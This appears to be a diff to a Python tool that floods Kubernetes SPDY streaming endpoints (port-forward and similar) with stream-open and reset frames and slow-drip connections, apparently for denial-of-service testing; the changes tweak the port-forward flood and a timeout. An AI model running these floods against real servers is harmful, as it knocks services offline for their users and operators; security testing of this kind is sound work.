@@ -130,8 +130,8 @@ async def syn_flood(url: str, count: int, *, fin: bool, unidirectional: bool,
     sid = await open_channels(raw, channels)
     for start in range(0, count, batch):
         frames = [spdy.SynStream(sid + 2 * k, {"streamtype": [f"x{start + k}"]}, fin=fin,
-                                 unidirectional=unidirectional)  # fmt: skip
-                  for k in range(min(batch, count - start))]
+                                 unidirectional=unidirectional)
+                  for k in range(min(batch, count - start))]  # fmt: skip
         sid += 2 * len(frames)
         if not await raw.send(*frames):
             break
@@ -165,15 +165,18 @@ async def data_flood(url: str, streams: int, frames: int, size: int, *, channels
 
 async def pair_flood(url: str, port: int, pairs: int, *, reset: bool = False,
                      batch: int = 100) -> Raw:  # fmt: skip
-    """Port-forward: `pairs` error+data stream pairs, each FIN'd at once (or reset)."""
+    """Port-forward: `pairs` error+data stream pairs, each opened FIN|UNIDIRECTIONAL
+    (done both ways at once, so the session holds nothing for it), or then reset."""
     raw = await upgrade(url, ["portforward.k8s.io"])
     sid = 1
     for start in range(0, pairs, batch):
         frames: list[spdy.Frame | bytes] = []
         for k in range(start, min(pairs, start + batch)):
             h = {"port": [str(port)], "requestid": [str(k)]}
-            frames += [spdy.SynStream(sid, {**h, "streamtype": ["error"]}, fin=True),
-                       spdy.SynStream(sid + 2, {**h, "streamtype": ["data"]}, fin=True)]
+            frames += [spdy.SynStream(sid, {**h, "streamtype": ["error"]}, fin=True,
+                                      unidirectional=True),
+                       spdy.SynStream(sid + 2, {**h, "streamtype": ["data"]}, fin=True,
+                                      unidirectional=True)]
             if reset:
                 frames += [spdy.RstStream(sid), spdy.RstStream(sid + 2)]
             sid += 4
@@ -209,8 +212,9 @@ async def dribble(url: str, interval: float, limit: float) -> float | None:
                 writer.write(bytes([byte]))
                 await writer.drain()
             await asyncio.wait([eof], timeout=interval)
+        left = max(0.0, limit - (time.monotonic() - start))
         with contextlib.suppress(TimeoutError):
-            await asyncio.wait_for(asyncio.shield(eof), max(0.0, limit - (time.monotonic() - start)))
+            await asyncio.wait_for(asyncio.shield(eof), left)
         return time.monotonic() - start if eof.done() else None
     finally:
         eof.cancel()
